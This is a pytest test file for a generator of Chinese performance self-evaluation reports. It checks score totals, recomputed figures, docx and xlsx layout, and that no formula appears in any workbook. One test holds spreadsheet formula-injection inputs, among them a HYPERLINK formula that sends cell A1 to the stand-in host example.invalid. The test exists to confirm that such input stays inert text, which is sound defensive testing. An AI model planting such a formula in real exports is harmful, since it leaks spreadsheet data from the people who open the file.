"""Reports an official would submit as is (issue 11): one test per defect class, on every example
(with its unit table) and, where the class is a property, on generated units.

1. charts: one per fund with that fund's data, numbered in reading order, labels as the text prints them;
2. scores: a total is the sum of its rows (tests/test_write_scores.py has the rest);
3. an entered figure is never replaced: a disagreement is left out and listed;
4. every printed derived figure recomputes from the printed operands, to its last digit;
5. no internal text in a submitted file (rule ids, files, citation marks, notes);
6. xlsx: values and text only — no formula, whatever a user typed; rows as tall as their text;
7. docx layout: rows never split, header rows repeated, no orphaned minus sign, titles broken at words;
8. the data reach the report (003's 类/款/项, 004's stated rates and their cause, 002's 征缴 …);
9. drafted text: 存在的问题 from the warnings, 偏差原因 from the figures, 本单位无…, 增长/下降 by sign;
10. the outline of the unit's region and kind, with its cover and signature block;
11. without a unit table: the unit's name left to fill in, and the notice says so.
"""

from __future__ import annotations

import itertools
import random
import re
from decimal import Decimal
from pathlib import Path

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.shared import Pt
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from jixiao.ingest.files import read_file, read_files
from jixiao.model import Dataset
from jixiao.write import notices, plan, reports_for, write_report
from jixiao.write.docx import title_lines
from jixiao.write.report import Figure, Report
from jixiao.write.synthetic import synthetic_unit
from jixiao.write.tables import NOT_SCORED
from jixiao.write.xlsx import LINE_POINTS
from submit_support import (
    claim_errors,
    claims,
    file_texts,
    formula_cells,
    internal_text,
    score_disagreements,
)

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
UNITS = {"000_hami_2019.yaml": ("650500", 2019), "001_xinjiang_2019.yaml": ("650000-01", 2019),
         "002_zhuzhou_2018.yaml": ("430200-01", 2018), "003_miyi_2019.yaml": ("510421-01", 2019),
         "004_yiyang_2020.yaml": ("430900", 2020)}


def dataset(name: str, *, units: bool = True) -> Dataset:
    if not units:  # the file alone, as `jixiao report FILE.yaml` reads it without the unit table
        alone = read_file(EXAMPLES / name).dataset
        assert alone is not None
        return alone
    result = read_files([EXAMPLES / "units.yaml", EXAMPLES / name])
    assert result.dataset is not None, [str(p) for p in result.problems]
    return result.dataset


@pytest.fixture(scope="module")
def built() -> dict[str, list[Report]]:
    """Every example's reports (no charts: the chart tests draw their own)."""
    return {name: reports_for(dataset(name), unit, year, charts=False) for name, (unit, year) in UNITS.items()}


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every example's files: reports in docx, xlsx and html, and their working papers."""
    out = tmp_path_factory.mktemp("submittable")
    paths: list[Path] = []
    for name, (unit, year) in UNITS.items():
        paths += write_report(dataset(name), unit, year, out)
    return {p.name: p for p in paths}


def text_of(report: Report) -> str:
    return "\n".join([p.text for p in report.paragraphs()] + [c.text for g in report.grids() for c in g.cells])


# --- 1. charts ------------------------------------------------------------------------------------


def test_each_fund_charts_its_own_data_numbered_in_order() -> None:
    ds = dataset("004_yiyang_2020.yaml")
    fund = next(r for r in reports_for(ds, "430900", 2020) if r.part == "fund")
    figures = fund.figures()
    assert [f.number for f in figures] == list(range(1, len(figures) + 1))
    titles = [f.chart.title for f in figures]
    # a fund's chart names that fund only; 统筹/个账 only for 职工医保, the one fund that has them
    assert any("城乡居民基本医疗保险基金收支结余" in t for t in titles)
    structure = [t for t in titles if "收入构成" in t]
    assert structure == ["2020年全市职工基本医疗保险基金收入构成"]
    assert not any(t for t in titles if "大病" in t or "医疗救助" in t)  # no 收支 to draw: no chart
    # the captions follow in reading order in the document
    captions = [b.caption for b in fund.blocks() if isinstance(b, Figure)]
    assert [int(re.match(r"图(\d+)", c).group(1)) for c in captions] == list(range(1, len(captions) + 1))


def test_a_chart_labels_its_bars_as_the_text_prints_them(monkeypatch: pytest.MonkeyPatch) -> None:
    """22.55亿元 in the text is 22.55亿元 on the bar (not 225500.00万元); a missing figure draws no bar."""
    from matplotlib.text import Text

    from jixiao.write import charts as ch
    from jixiao.write.figures import fund_chart
    from jixiao.write.printed import Fig

    drawn: list[list[str]] = []
    draw = ch._png
    monkeypatch.setattr(ch, "_png", lambda fig: (drawn.append([t.get_text() for t in fig.findobj(Text)]), draw(fig))[1])
    chart = fund_chart("x", "收支", 2018, {"income": Fig(Decimal("22.55"), "亿元"),
                                          "expenditure": Fig(Decimal("21.3"), "亿元"), "balance": None})
    assert chart is not None
    texts = drawn[-1]
    assert "22.55" in texts and "21.3" in texts and "单位：亿元" in texts
    assert not any("225500" in t for t in texts)
    assert "当期结余" not in texts  # a category with no figure is not drawn at all


# --- 2. 3. 4. scores, entered figures, the reader's arithmetic -------------------------------------


def test_every_table_total_is_the_sum_of_its_rows(built: dict[str, list[Report]]) -> None:
    checked = 0
    for reports in built.values():
        for report in reports:
            for g in report.grids():
                at = {(c.row, c.col): c.text for c in g.cells}
                if g.key.startswith("self_eval"):
                    last = max(r for r, _ in at)
                    total = at.get((last, 7), "")
                    rows = [at.get((r, 7), "") for r in range(10, last)]
                    if total and total != NOT_SCORED:
                        assert Decimal(total) == sum(Decimal(v) for v in rows) + Decimal(at[(3, 9)])
                        checked += 1
                    else:
                        assert total == NOT_SCORED
                if g.key == "department_self_eval":
                    last = next(r for (r, k), t in at.items() if k == 0 and t == "合计")
                    scores = [at[(r, 5)] for r in range(1, last)]
                    if at[(last, 5)] != NOT_SCORED:
                        assert Decimal(at[(last, 5)]) == sum(Decimal(v) for v in scores)
                    else:
                        assert NOT_SCORED in scores or not scores  # a partial total is never printed
                    # below the 合计 only the unit's own score, marked as stated
                    assert all("据报" in at[(r, 0)] for r in range(last + 1, max(r for r, _ in at) + 1))
    assert checked == 0  # the examples' 目标表 approve no 分值 (tests/test_write_scores.py scores one that does)


def test_the_texts_score_is_the_tables(built: dict[str, list[Report]]) -> None:
    """A score the text states is one its 自评表 prints, and the other way round (issue 11, 2)."""
    for name, reports in built.items():
        for report in reports:
            assert score_disagreements(report) == [], (name, report.title)
    # 004 states 99.9 while the rule set scores part of its table: the 合计 stays 未计分 and the
    # unit's 99.9 is printed, in the text and in the table, as the unit's stated score
    dept = next(r for r in built["004_yiyang_2020.yaml"] if r.part == "department")
    table = next(g for g in dept.grids() if g.key == "department_self_eval")
    rows = {c.row: [] for c in table.cells}
    for c in sorted(table.cells, key=lambda c: c.col):
        rows[c.row].append(c.text)
    assert ["合计", "", NOT_SCORED, ""] in rows.values() and ["单位自评得分（据报）", "99.9", ""] in rows.values()
    assert "单位自评得分99.9分（据报）" in text_of(dept)
    assert dept.workpaper is not None
    stated = next(g for g in dept.workpaper.sheets if g.key == "stated")
    assert any(row[2].text == "单位自评得分" and row[3].text == "99.9分" for row in stated.rows()[1:])


def test_a_stated_score_other_than_the_tables_total_is_shown_beside_it() -> None:
    """When the rules score every row, the 合计 is the text's score; a different score the unit
    stated is printed as stated next to it (text and table alike), never in its place."""
    from jixiao.write.scores import DEPARTMENT
    from jixiao.write.tables import DEPARTMENT_FORM, RowScore, SelfEvalScores

    ds = dataset("004_yiyang_2020.yaml")
    full = SelfEvalScores(by_indicator={i: RowScore("5", "4") for _, _, i in DEPARTMENT_FORM}, complete=True)
    for stated in ("99.9", "96", None):
        d = ds.model_copy(update={"departments": [ds.departments[0].model_copy(update={"self_score": stated})]})
        report = next(r for r in reports_for(d, "430900", 2020, charts=False, scores={DEPARTMENT: full})
                      if r.part == "department")
        table = next(g for g in report.grids() if g.key == "department_self_eval")
        total = next(c.text for c in table.cells if c.col == 5 and c.row == next(
            x.row for x in table.cells if x.col == 0 and x.text == "合计"))
        assert Decimal(total) == 4 * (len({c.row for c in table.cells if c.col == 2}) - 1)
        assert score_disagreements(report) == []
        text = text_of(report)
        assert f"自评得分{total}分" in text
        assert (f"单位自评得分为{stated}分（据报）" in text) == (stated is not None)


def test_an_entered_figure_is_never_replaced(built: dict[str, list[Report]]) -> None:
    """哈密 2019 城乡居民: 当期结余 entered as 569 (the seed's figure), 收入 − 支出 is 2149."""
    fund = next(r for r in built["000_hami_2019.yaml"] if r.part == "fund")
    text = text_of(fund)
    assert "2149" not in text and "569万元" not in text  # neither the replacement nor the wrong figure
    assert "26773万元" in text and "24624万元" in text  # the figures that are right stay
    paper = fund.workpaper
    assert paper is not None
    checks = next(g for g in paper.sheets if g.key == "checks")
    rows = [[c.text for c in row] for row in checks.rows()[1:]]
    assert any(r[2] == "当期结余" and r[3] == "569万元" and r[4] == "2149万元" and "报告未写此数" in r[6] for r in rows)
    # a stated rate that does not hold is not repeated: the report prints the rate of its figures
    assert "下降9.63%" in text and "9.62%" not in text
    assert any(r[2] == "收入同比增减率" and r[3] == "-9.62%" and r[4] == "-9.63%" for r in rows)


def test_every_printed_derived_figure_recomputes_from_its_printed_operands(built: dict[str, list[Report]]) -> None:
    total = 0
    for name, reports in built.items():
        for report in reports:
            assert claim_errors(report) == [], (name, report.title)
            total += len(claims(report))
    assert total > 60
    # the case of the issue: 806 元 against 751 元 is 7.32%, as a reader computes it (not 7.27%)
    dept = next(r for r in built["004_yiyang_2020.yaml"] if r.part == "department")
    text = text_of(dept)
    assert "人均基金收入806元，比上年人均751元增长7.32%" in text and "人均支出大于人均收入22元" in text


# --- 5. no internal text --------------------------------------------------------------------------


def test_no_internal_text_in_any_submitted_file(files: dict[str, Path]) -> None:
    notes = [n for name in UNITS for r in [*dataset(name).fund_years, *dataset(name).departments,
                                             *dataset(name).projects] for n in r.notes]
    submitted = [p for name, p in files.items() if "_审核底稿" not in name]
    assert len(submitted) == 3 * 10
    for path in submitted:
        texts = file_texts(path)
        assert texts, path.name
        problems = [x for t in texts for x in internal_text(t)]
        assert problems == [], (path.name, problems[:5])
        joined = "\n".join(texts)
        assert not [n for n in notes if n[:30] in joined], path.name


def test_the_working_paper_holds_what_the_report_does_not(files: dict[str, Path]) -> None:
    paper = load_workbook(files["430900_2020_部门整体支出绩效自评报告_审核底稿.xlsx"])
    assert {"待填写和待核实事项", "据报数（无法由数据复算）", "指标计算表", "评分说明", "风险提示",
            "数据说明"} <= set(paper.sheetnames)
    formulas = [ws.cell(r, 4).value for ws in [paper["指标计算表"]] for r in range(3, ws.max_row + 1)]
    assert "全年预算 ÷ 年初预算 × 100%" in formulas
    for ws in paper:  # for people too: rules named, sources as documents, no ids or repository files
        texts = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [t for t in texts if re.search(r"\b[a-z]+(?:_[a-z0-9]+)+\b|rules\.md|\[secondary\]", t)]


# --- 6. xlsx --------------------------------------------------------------------------------------


def test_no_formula_in_any_generated_workbook(files: dict[str, Path], tmp_path: Path) -> None:
    from jixiao.write.workbook import fill_workbook, write_template

    books = [p for p in files.values() if p.suffix == ".xlsx"]  # every report and working paper
    assert len(books) == 20
    for book in books:
        assert formula_cells(book) == [], book.name
    # the fill-in workbook: its only formulas are its own 险种 heads echoing its first sheet; the data
    # exported into it (“=100%” targets among them) are text
    write_template(("fund", "department", "project"), tmp_path / "template.xlsx")
    fill_workbook(dataset("003_miyi_2019.yaml"), "510421-01", 2019).save(tmp_path / "filled.xlsx")
    for book in (tmp_path / "template.xlsx", tmp_path / "filled.xlsx"):
        assert all(re.search(r"<f>IF\('[^']+'!\$[BC]\$\d+=\"\",", f) for f in formula_cells(book)), book
    filled = load_workbook(tmp_path / "filled.xlsx")
    typed = [c for ws in filled for row in ws.iter_rows() for c in row if c.value == "=100%"]
    assert typed and all(c.data_type == "s" for c in typed)
    # the target “=100%” of seed 003 is the text “=100%”, not the formula =100% (which shows 1)
    name = "510421-01_2019_项目_财政代缴2019年建档立卡贫困人口城乡居民医保个人缴费.xlsx"
    form = load_workbook(files[name]).worksheets[0]
    targets = [c for row in form.iter_rows() for c in row if c.value == "=100%"]
    assert targets and all(c.data_type == "s" for c in targets)


def test_text_a_user_typed_is_never_a_formula(tmp_path: Path) -> None:
    """Whatever text the data carry — a workbook cell copied in, a name — stays text in every xlsx."""
    ds = dataset("003_miyi_2019.yaml")
    pr = ds.projects[0]
    hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    rows = [pr.indicators[0].model_copy(update={"level3": hostile[0], "target": "=100%", "actual": hostile[3]}),
            *pr.indicators[1:]]
    pr = pr.model_copy(update={"name": "@项目", "goal_expected": hostile[1], "goal_actual": hostile[2],
                               "indicators": rows, "narrative": {"存在问题": hostile[0]}})
    ds = ds.model_copy(update={"projects": [pr]})
    paths = write_report(ds, "510421-01", 2019, tmp_path, ("xlsx",), charts=False)
    seen = set()
    for path in (p for p in paths if p.suffix == ".xlsx"):
        assert formula_cells(path) == [], path.name
        for ws in load_workbook(path):
            for row in ws.iter_rows():
                for c in row:
                    if isinstance(c.value, str) and c.value in (*hostile, "=100%", "@项目"):
                        assert c.data_type == "s" and c.quotePrefix, (path.name, c.coordinate, c.value)
                        seen.add(c.value)
    assert {hostile[0], hostile[1], hostile[2], hostile[3], "=100%"} <= seen


def test_xlsx_rows_are_as_tall_as_their_text_and_print_on_a4(files: dict[str, Path]) -> None:
    from jixiao.write.xlsx import _lines

    wb = load_workbook(files["510421-01_2019_项目_财政代缴2019年建档立卡贫困人口城乡居民医保个人缴费.xlsx"])
    ws = wb.worksheets[0]
    assert ws.page_setup.orientation == "landscape" and not ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows  # the 绩效指标 header row repeated on every page
    widths = {col: ws.column_dimensions[col].width for col in "ABCDEFGHIJ"}
    tall = 0
    last = next(c.row for row in ws.iter_rows() for c in row if c.value == "总分")  # the form's last row
    for row in ws.iter_rows(min_row=3, max_row=last):
        for c in row:
            if isinstance(c.value, str) and len(c.value) > 12 and c.coordinate not in ws.merged_cells:
                height = ws.row_dimensions[c.row].height
                assert height is not None and height >= _lines(c.value, widths[c.column_letter]) * LINE_POINTS
                tall += 1
    assert tall >= 5


def test_working_papers_print_whole(files: dict[str, Path]) -> None:
    """What looking at every page of the 审核底稿 found: a subtitle (the rule set's name) cut on both
    sides, its merge narrower than its text and not wrapped; a minus sign left at a line's end
    (“-” / “117.17%”)."""
    from jixiao.write.xlsx import LINE_POINTS, _lines

    papers = [p for name, p in files.items() if name.endswith("_审核底稿.xlsx")]
    assert len(papers) == 10
    subtitles = 0
    for path in papers:
        for ws in load_workbook(path):
            for row in ws.iter_rows():
                for c in row:
                    if isinstance(c.value, str):
                        assert not re.search(r"(?<![\w.])-\d", c.value), (path.name, ws.title, c.value)
            text = ws.cell(2, 1).value
            if isinstance(text, str) and text.startswith("（"):
                merged = next((m for m in ws.merged_cells.ranges if m.min_row == 2 and m.min_col == 1), None)
                last = merged.max_col if merged is not None else 1
                width = sum(ws.column_dimensions[get_column_letter(k)].width for k in range(1, last + 1))
                assert (ws.row_dimensions[2].height or 15) >= _lines(text, width) * LINE_POINTS, (path.name, text)
                assert ws.cell(2, 1).alignment.wrap_text
                subtitles += 1
    assert subtitles >= 8  # every 评分说明 (its rule set named under the title)


def test_no_xlsx_page_holds_only_a_tables_totals(files: dict[str, Path]) -> None:
    """A page is not left with a 自评表's 合计 and 据报 rows alone (seen in 004's workbook when the
    据报 row was added and every 得分 cell wrapped “未计分” to two lines)."""
    totals = {"合计", "总分", "单位自评得分（据报）"}
    for name, path in files.items():
        if path.suffix != ".xlsx" or name.endswith("_审核底稿.xlsx"):
            continue
        for ws in load_workbook(path):
            if not ws.row_breaks.brk:
                continue
            last = max(b.id for b in ws.row_breaks.brk)
            tail = [ws.cell(r, 1).value for r in range(last + 1, ws.max_row + 1) if ws.cell(r, 1).value]
            assert not (tail and set(tail) <= totals), (name, ws.title, tail)


# --- 7. docx layout -------------------------------------------------------------------------------


def test_docx_rows_never_split_and_headers_repeat(files: dict[str, Path]) -> None:
    for name in ("510421-01_2019_项目_财政代缴2019年建档立卡贫困人口城乡居民医保个人缴费.docx",
                 "430900_2020_部门整体支出绩效自评报告.docx", "510421-01_2019_部门整体支出绩效自评报告.docx"):
        doc = Document(str(files[name]))
        for table in doc.tables:
            for tr in table._tbl.tr_lst:
                trpr = tr.find(qn("w:trPr"))
                assert trpr is not None and trpr.find(qn("w:cantSplit")) is not None, name
    project = Document(str(files["510421-01_2019_项目_财政代缴2019年建档立卡贫困人口城乡居民医保个人缴费.docx"]))
    indicators = next(t for t in project.tables if t.cell(0, 1).text == "一级指标")
    first = indicators._tbl.tr_lst[0].find(qn("w:trPr"))
    assert first.find(qn("w:tblHeader")) is not None  # 一级指标 … 得分 repeated on every page
    # the rows of one merged 一级/二级 block keep together
    kept = [p for p in indicators._tbl.iter(qn("w:p")) if p.find(qn("w:pPr") + "/" + qn("w:keepNext")) is not None]
    assert kept


def test_signature_lines_are_not_broken(files: dict[str, Path]) -> None:
    """A signature or cover line (评价单位（盖章）：<unit name>) fits on one line beside its indent:
    the unit's name is never broken before its last character (“益阳市医疗保障” / “局”)."""
    checked = 0
    for name, path in files.items():
        if path.suffix != ".docx":
            continue
        doc = Document(str(path))
        section = doc.sections[0]
        width = section.page_width - section.left_margin - section.right_margin
        for p in doc.paragraphs:
            if "：" in p.text and p.paragraph_format.left_indent:  # the signature and cover lines
                size = max((r.font.size for r in p.runs if r.font.size), default=Pt(16))
                chars = sum(1.0 if ord(ch) > 0x2E7F else 0.5 for ch in p.text)
                assert p.paragraph_format.left_indent + chars * size <= width, (name, p.text)
                checked += 1
    assert checked >= 5


def test_a_minus_sign_never_ends_a_line(files: dict[str, Path]) -> None:
    """In Word the minus of a negative figure is U+2212, which a line never ends with (a hyphen can)."""
    doc = Document(str(files["430900_2020_部门整体支出绩效自评报告.docx"]))
    texts = [p.text for p in doc.paragraphs]
    assert any("当期结余率为−2.84%" in t for t in texts)
    assert not [t for t in texts if re.search(r"-\d", t)]


def test_titles_break_where_a_word_ends() -> None:
    lines, size = title_lines(["米易县医疗保障事务中心2019年部门整体支出绩效自评报告"], 442)
    assert lines == ["米易县医疗保障事务中心", "2019年部门整体支出绩效自评报告"] and size >= 16
    lines, size = title_lines(["财政代缴2019年建档立卡贫困人口城乡居民医保个人缴费", "项目支出绩效自评报告"], 442)
    assert lines[-1] == "项目支出绩效自评报告" and all(len(x) * size <= 442 for x in lines)
    assert not any(re.search(r"\d$", x) and re.match(r"\d", nxt) for x, nxt in itertools.pairwise(lines))


def test_the_year_is_said_once_in_a_title(built: dict[str, list[Report]]) -> None:
    """The title says the year or the line under it does, not both (“…2019年度…报告（2019年度）”)."""
    for reports in built.values():
        for report in reports:
            head = "".join(report.title_lines) + (report.subtitle or "")
            assert not re.search(rf"{report.year}年度.*{report.year}年度", head), head


# --- 8. the data reach the report -----------------------------------------------------------------


def test_the_data_reach_the_report(built: dict[str, list[Report]]) -> None:
    miyi = text_of(next(r for r in built["003_miyi_2019.yaml"] if r.part == "department"))
    assert "人力资源和社会保障管理事务（款）行政运行（项）支出决算200.57万元" in miyi
    assert "其他卫生健康支出（款）其他卫生健康支出（项）预算14万元，本年未支出" in miyi
    yiyang = text_of(next(r for r in built["004_yiyang_2020.yaml"] if r.part == "department"))
    for figure in ("较上年增长1.28%", "比上年下降4.23%", "减征基本医疗统筹基金4700万元", "收入预算执行率为107.45%",
                   "其中征缴收入预算执行率为108.28%", "基金支付20280.29万元", "共救助40451人次"):
        assert figure in yiyang, figure
    zhuzhou = text_of(built["002_zhuzhou_2018.yaml"][0])
    assert "职工基本医疗保险征缴收入26.35亿元" in zhuzhou and "生育保险实际缴费33.66万人" in zhuzhou
    hami = text_of(built["000_hami_2019.yaml"][0])
    assert "个人缴费8186万元" in hami


def test_no_report_for_a_part_without_data(built: dict[str, list[Report]]) -> None:
    assert [r.part for r in built["002_zhuzhou_2018.yaml"]] == ["department"]
    assert [r.part for r in built["003_miyi_2019.yaml"]] == ["department", "project-1", "project-2", "project-3"]
    why = {p.part: p.reason for p in plan(dataset("002_zhuzhou_2018.yaml"), "430200-01", 2018)}
    assert "没有基金支出" in why["fund"]


# --- 9. drafted text ------------------------------------------------------------------------------


def test_problems_are_drafted_from_the_warnings(built: dict[str, list[Report]]) -> None:
    dept = next(r for r in built["004_yiyang_2020.yaml"] if r.part == "department")
    problems = next(s for _, s in dept.walk() if s.title.endswith("存在的问题及原因分析"))
    texts = [b.text for b in problems.blocks if hasattr(b, "text")]
    assert any("城乡居民基本医疗保险基金当期收不抵支" in t and "缺口9054万元" in t for t in texts)
    assert any(t.startswith("2.追加预算超过年初预算的30%") or "追加预算" in t for t in texts)
    assert not any("待填写" in t for t in texts)
    xinjiang = next(r for r in built["001_xinjiang_2019.yaml"] if r.part == "fund")
    assert "区本级生育保险基金当期收不抵支" in text_of(xinjiang)


def test_deviation_reasons_come_from_the_figures(built: dict[str, list[Report]]) -> None:
    project = next(r for r in built["003_miyi_2019.yaml"] if r.title.startswith("财政代缴"))
    form = next(g for g in project.grids() if g.key == "self_eval")
    rows = {c.row: c.text for c in form.cells if c.col == 3}
    reasons = {c.row: c.text for c in form.cells if c.col == 8 and c.row >= 10}
    row = next(r for r, t in rows.items() if t == "其中：省级代缴人数")
    assert reasons[row] == "实际完成13297人，比年度指标值18067人少4770人，完成指标值的73.60%。"
    met = next(r for r, t in rows.items() if t == "建档立卡贫困户参保率")
    assert reasons[met] == ""  # reached: nothing to explain


def test_words_follow_the_figures(built: dict[str, list[Report]]) -> None:
    for reports in built.values():
        for report in reports:
            text = text_of(report)
            assert not re.search(r"(增加|减少|增长|下降|缺口)[-−]", text), report.title
            assert "<=" not in text and ">=" not in text
            assert not re.search(r"人次\d+人次|车辆0辆|0万元，完成预算0", text), report.title
    assert "2020年度本单位无项目支出。" in text_of(next(r for r in built["004_yiyang_2020.yaml"]
                                                   if r.part == "department"))


def test_no_sentence_is_said_twice(built: dict[str, list[Report]]) -> None:
    for reports in built.values():
        for report in reports:
            sentences = [s for p in report.paragraphs() if p.origin == "generated"
                         for s in re.split(r"(?<=。)", p.text) if len(s) > 8]
            assert len(sentences) == len(set(sentences)), report.title


def test_placeholders_are_listed_in_the_working_paper(built: dict[str, list[Report]]) -> None:
    counts = {}
    for _name, reports in built.items():
        for report in reports:
            shown = re.findall(r"（待填写：(.+?)。）", text_of(report))
            assert report.workpaper is not None
            todo = next(g for g in report.workpaper.sheets if g.key == "todo")
            listed = [row[3].text for row in todo.rows()[1:] if row[1].text == "待填写"]
            assert sorted(shown) == sorted(x for x in listed if x in shown)
            assert set(shown) <= set(listed)
            counts[report.title] = len(shown)
    assert max(counts.values()) <= 9  # only what no data can say (the unit's own account of its work)


# --- 10. 11. outlines, covers, signatures, the unit table -------------------------------------------


def test_each_report_has_its_regions_outline(built: dict[str, list[Report]]) -> None:
    form = built["002_zhuzhou_2018.yaml"][0]
    assert form.title == "整体支出绩效自评报告" and form.subtitle == "（2018年度）"
    grid = form.grids()[0]
    texts = [c.text for c in grid.cells]
    assert any(t.startswith("单位负责人") for t in texts) and "审核意见" in texts
    assert [line.label for line in form.signature] == ["填报人", "联系电话", "填报日期"]
    sichuan = next(r for r in built["003_miyi_2019.yaml"] if r.part == "department")
    tops = [s.title for s in sichuan.sections]
    assert tops == ["第一部分　部门概况", "第二部分　2019年度部门决算情况说明", "第三部分　名词解释", "第四部分　附件"]
    annex = next(s for _, s in sichuan.walk() if s.annex)
    assert annex.annex == "附件1" and [line.label for line in annex.signature][-1] == "填报日期"
    hunan = next(r for r in built["004_yiyang_2020.yaml"] if r.part == "department")
    assert [s.title for s in hunan.sections][5] == "六、部门整体支出绩效情况"
    fund = built["000_hami_2019.yaml"][0]
    assert [line.label for line in fund.cover] == ["项目名称", "实施单位（公章）", "负责人（签章）", "填报时间"]
    project = next(r for r in built["001_xinjiang_2019.yaml"] if r.kind == "project")
    assert [s.title for s in project.sections][:3] == [
        "一、基本情况", "二、绩效评价工作开展情况", "三、综合评价情况及评价结论"]


def test_without_a_unit_table_the_name_is_left_to_fill_in() -> None:
    ds = dataset("000_hami_2019.yaml", units=False)
    reports = reports_for(ds, "650500", 2019, charts=False)
    assert reports[0].title_lines == ("（单位名称）", "医疗保险基金支出绩效自评报告")
    assert "6505002019" not in reports[0].title
    said = notices(ds, "650500", 2019, reports)
    assert [p.code for p in said if p.code == "JX-RPT-001"] and "默认规则集" in said[0].message


# --- the properties on generated units ------------------------------------------------------------


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(rng=st.randoms(use_true_random=False))
def test_generated_units_give_submittable_reports(rng: random.Random, tmp_path: Path) -> None:
    ds = synthetic_unit(rng, "S00001", 2021)
    reports = reports_for(ds, "S00001", 2021, charts=False)
    assert len(reports) == 3
    for report in reports:
        assert claim_errors(report) == []
        assert score_disagreements(report) == [], report.title
        assert not [x for t in text_of(report).split("\n") for x in internal_text(t)]
        sentences = [s for p in report.paragraphs() if p.origin == "generated" for s in re.split(r"(?<=。)", p.text)
                     if len(s) > 8]
        assert len(sentences) == len(set(sentences)), [s for s in set(sentences) if sentences.count(s) > 1]
        for g in report.grids():
            if g.key.startswith("self_eval"):
                at = {(c.row, c.col): c.text for c in g.cells}
                last = max(r for r, _ in at)
                if at[(last, 7)] not in ("", NOT_SCORED):
                    assert Decimal(at[(last, 7)]) == sum(Decimal(at[(r, 7)]) for r in range(10, last)) + Decimal(
                        at[(3, 9)])
    for rules in ("hunan", "sichuan"):  # rule sets that score part of the 部门 table, or none of it
        assert all(score_disagreements(r) == [] for r in reports_for(ds, "S00001", 2021, charts=False, rules=rules))
    paths = write_report(ds, "S00001", 2021, tmp_path / f"r{rng.getrandbits(32)}", ("xlsx",), charts=False)
    assert all(formula_cells(p) == [] for p in paths)
